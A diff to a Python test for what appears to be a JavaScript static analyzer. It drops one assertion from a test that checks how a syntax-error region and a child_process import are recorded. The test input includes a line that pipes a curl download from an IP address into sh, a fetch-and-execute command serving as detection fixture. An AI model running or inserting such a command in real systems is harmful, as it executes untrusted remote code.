@@ -53,7 +53,6 @@ def test_modules_keep_html_comment_tokens() -> None:
 def test_syntax_error_is_a_region_read_lexically() -> None:
     source = b"var a = 1;\nvar cp = require('child_process') );\ncp.exec('curl http://203.0.113.7/x | sh');\n"
     result = analyze_source("lib/x.js", source, Dialect.JAVASCRIPT)
-    assert result.parse_errors
     assert result.unparsed and result.unparsed[0].line == 2
     assert any(key.startswith("child_process") for key in result.builtin)
     assert any(s.file == "lib/x.js" and s.reason.startswith("line 2:") for s in result.skipped)
